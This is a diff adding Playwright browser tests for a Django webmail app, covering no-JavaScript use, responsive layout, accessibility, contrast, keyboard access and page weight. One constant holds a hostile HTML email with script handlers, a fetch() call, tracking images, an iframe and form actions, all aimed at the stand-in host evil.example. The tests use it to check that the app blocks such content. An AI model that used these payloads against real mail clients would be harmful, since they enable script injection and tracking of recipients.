@@ -1,0 +1,218 @@
+"""A real browser before a real server: without JavaScript, narrow and wide, light and dark."""
+
+import gzip
+import re
+import shutil
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright
+
+from office import PASSWORD, PostOffice, letter
+
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+EVIL = """<html><body onload="alert(1)"><script>fetch('https://evil.example/s')</script>
+<p style="background:url(https://evil.example/b.gif)">各位</p><img src="https://evil.example/t.gif" onerror="alert(2)">
+<iframe src="https://evil.example/f"></iframe><svg onload="alert(3)"></svg><style>@import url(https://evil.example/c.css);</style>
+<link rel=stylesheet href="https://evil.example/l.css"><meta http-equiv=refresh content="0;url=https://evil.example/m">
+<form action="https://evil.example/p"><input name=q autofocus></form><a href="https://www.example.com/">weiter</a></body></html>"""
+
+
+@pytest.fixture(scope="module")
+def chromium(django_db_setup) -> Iterator[Browser]:
+    """Playwright keeps a loop running in this thread, which Django would take for an asynchronous program."""
+    with pytest.MonkeyPatch.context() as patch, sync_playwright() as playwright:
+        patch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
+        found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+        browser = playwright.chromium.launch(executable_path=found, args=["--no-sandbox"])
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def visit(chromium: Browser, live_server, office: PostOffice) -> Iterator[Callable[..., Page]]:
+    """`visit(width=360, …)`: a page with 李四 signed in; what it asks the network for is in `page.asked`."""
+    contexts: list[BrowserContext] = []
+
+    def start(width: int = 1280, language: str = "en-US", **more: object) -> Page:
+        context = chromium.new_context(
+            base_url=live_server.url, viewport={"width": width, "height": 800}, locale=language, **more
+        )
+        contexts.append(context)
+        page = context.new_page()
+        page.set_default_timeout(10_000)
+        page.asked = []
+        page.on("request", lambda request: page.asked.append(request.url))
+        page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
+        page.goto("/login/")
+        page.fill("#username", "lisi")
+        page.fill("#password", PASSWORD)
+        page.press("#password", "Enter")
+        page.wait_for_selector(".folders", state="attached")
+        return page
+
+    yield start
+    for context in contexts:
+        context.close()
+
+
+@pytest.mark.parametrize("width", [360, 1280])
+def test_a_day_without_javascript(visit, office: PostOffice, width: int) -> None:
+    office.put(letter("会议", "您好\n"))
+    page = visit(width, java_script_enabled=False)
+    page.goto("/")
+    page.click(".subject")
+    page.click("a[accesskey=r]")
+    page.fill("textarea[name=body]", "收到。")
+    page.click("button[value=send]")
+    assert page.locator(".note.success").inner_text() == "Your message was sent."
+    office.deliver()
+    assert len(office.letters("xiaoqi")) == 1
+    page.goto("/")
+    page.check("input[name=uid]")
+    page.click("button[value=delete]")
+    assert "1 message moved to Trash." in page.content()
+    if width < 600:
+        page.goto("/compose/")
+        assert page.locator("#pane").is_hidden()
+
+
+def test_the_folders_open_on_a_narrow_screen(visit) -> None:
+    page = visit(360)
+    assert page.locator("#pane").is_hidden()
+    page.click(".menu-button")
+    assert page.locator("#pane").is_visible()
+    page.click("#pane >> text=Archive")
+    assert page.locator("h1").inner_text() == "Archive"
+    page.click(".menu-button")
+    page.keyboard.press("Escape")
+    assert page.locator("#pane").is_hidden()
+
+
+def test_a_hostile_letter_reaches_nobody(visit, office: PostOffice) -> None:
+    message = letter("Rechnung")
+    message.set_content(EVIL, subtype="html")
+    office.put(message)
+    page = visit()
+    page.goto("/mail/1")
+    page.wait_for_load_state("networkidle")
+    assert "各位" in page.frame_locator("iframe").locator("body").inner_text()
+    page.goto("/mail/1/body")
+    page.goto("/mail/1/print")
+    page.wait_for_load_state("networkidle")
+    assert [url for url in page.asked if "evil" in url] == []
+
+
+def test_images_are_loaded_when_asked_for(visit, office: PostOffice) -> None:
+    message = letter("Rechnung")
+    message.set_content(EVIL, subtype="html")
+    office.put(message)
+    page = visit()
+    page.route("https://evil.example/**", lambda route: route.fulfill(status=200, content_type="image/gif", body=b""))
+    page.goto("/mail/1")
+    page.click("text=Show images")
+    page.wait_for_load_state("networkidle")
+    assert {url for url in page.asked if "evil" in url} == {"https://evil.example/t.gif", "https://evil.example/b.gif"}
+
+
+PATHS = ["/", "/?in=Archive", "/mail/1", "/mail/1?view=text&headers=all", "/mail/2", "/compose/", "/compose/?mode=all&of=1", "/folders/", "/search/?q=会议&where=all", "/options/", "/mail/999"]  # fmt: skip
+
+
+@pytest.fixture
+def library(office: PostOffice) -> None:
+    message = letter("一个很长很长的主题" * 8, "x" * 400 + "\n" + "字" * 300 + "\n", "A" * 90 + " <xiaoqi@benet.com>")
+    message.add_alternative(f"<p>{'y' * 400}</p><table width=2000><tr><td>z</table>", subtype="html")
+    message.add_attachment(b"x", "application", "pdf", filename="很长的文件名" * 12 + ".pdf")
+    office.put(message)
+    office.put(letter("会议", "您好\n"), flags=r"(\Seen \Flagged \Answered)")
+
+
+@pytest.mark.parametrize(
+    ("width", "language"), [(320, "zh-CN"), (360, "en-US"), (768, "zh-CN"), (1280, "en-US"), (2560, "zh-CN")]
+)
+def test_no_page_runs_out_of_its_screen(visit, library, width: int, language: str) -> None:
+    page = visit(width, language)
+    for path in PATHS:
+        page.goto(path)
+        assert page.evaluate("document.documentElement.scrollWidth") <= width, path
+
+
+AUDIT = """() => {
+  const named = e => (e.getAttribute('aria-label') || e.labels?.[0]?.textContent || e.textContent || e.title || e.placeholder || '').trim()
+  const wrong = []
+  for (const e of document.querySelectorAll('a[href], button, input:not([type=hidden]), select, textarea, summary'))
+    if (!e.hidden && e.getAttribute('aria-hidden') !== 'true' && !named(e)) wrong.push(e.outerHTML.slice(0, 120))
+  for (const e of document.querySelectorAll('img:not([alt])')) wrong.push(e.outerHTML.slice(0, 120))
+  if (document.querySelectorAll('h1').length > 1) wrong.push('two h1')
+  if (!document.documentElement.lang) wrong.push('no language')
+  if (!document.querySelector('main')) wrong.push('no main')
+  const ids = [...document.querySelectorAll('[id]')].map(e => e.id)
+  for (const id of new Set(ids)) if (ids.filter(i => i === id).length > 1) wrong.push('twice: ' + id)
+  return wrong
+}"""
+
+CONTRAST = """() => {
+  const lum = c => { const v = c.map(x => { x /= 255; return x <= .03928 ? x / 12.92 : ((x + .055) / 1.055) ** 2.4 }); return .2126 * v[0] + .7152 * v[1] + .0722 * v[2] }
+  const rgb = s => (s.match(/[\\d.]+/g) || []).map(Number)
+  const back = e => { for (; e; e = e.parentElement) { const c = rgb(getComputedStyle(e).backgroundColor); if (c.length === 3 || c[3] === 1) return c } return [255, 255, 255] }
+  const weak = []
+  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
+  while (walk.nextNode()) {
+    const e = walk.currentNode.parentElement
+    if (!walk.currentNode.data.trim() || !e.checkVisibility?.({opacityProperty: true}) || e.closest('.sr, .skip, .nothing, [popover]:not(:popover-open), option')) continue
+    if (getComputedStyle(e).backgroundImage !== 'none') continue
+    const a = lum(rgb(getComputedStyle(e).color).slice(0, 3)), b = lum(back(e).slice(0, 3))
+    const ratio = (Math.max(a, b) + .05) / (Math.min(a, b) + .05)
+    if (ratio < 4.5) weak.push(ratio.toFixed(2) + ' ' + e.className + ' ' + walk.currentNode.data.trim().slice(0, 30))
+  }
+  return [...new Set(weak)]
+}"""  # fmt: skip
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_everything_has_a_name_and_can_be_read(visit, library, scheme: str) -> None:
+    page = visit(color_scheme=scheme)
+    for path in PATHS:
+        page.goto(path)
+        assert page.evaluate(AUDIT) == [], path
+        assert page.evaluate(CONTRAST) == [], path
+
+
+def test_the_keyboard_is_enough(visit, office: PostOffice) -> None:
+    office.put(letter("会议", "您好\n"))
+    page = visit()
+    page.goto("/")
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.className") == "skip"
+    page.keyboard.press("Enter")
+    assert page.evaluate("document.activeElement.id") == "main"
+    keys = set(page.evaluate("[...document.querySelectorAll('[accesskey]')].map(e => e.accessKey)"))
+    assert {"c", "o", "z", "i"} <= keys
+    page.goto("/mail/1")
+    keys = set(page.evaluate("[...document.querySelectorAll('[accesskey]')].map(e => e.accessKey)"))
+    assert {"r", "a", "f", "h", "d", "b", "m", "y"} <= keys
+
+
+def test_a_page_weighs_little(visit, office: PostOffice) -> None:
+    for number in range(50):
+        office.put(letter(f"第{number}封关于会议的邮件", "您好\n"))
+    page = visit()
+    page.asked.clear()
+    weight: dict[str, int] = {}
+    session = page.context.new_cdp_session(page)
+    session.send("Network.enable")
+    session.send("Network.clearBrowserCache")
+    kinds: dict[str, str] = {}
+    session.on("Network.responseReceived", lambda e: kinds.update({e["requestId"]: e["type"]}))
+    session.on(
+        "Network.loadingFinished", lambda e: weight.update({kinds.get(e["requestId"], "?"): e["encodedDataLength"]})
+    )
+    page.goto("/", wait_until="networkidle")
+    asked = [url for url in page.asked if not url.startswith("data:")]
+    assert len(re.findall(r"<li class=.row", page.content())) == 50
+    assert len(asked) <= 3, asked
+    assert weight["Document"] <= 30_000
+    assert len(gzip.compress((Path(settings.BASE_DIR) / "static/base.css").read_bytes())) <= 15_000
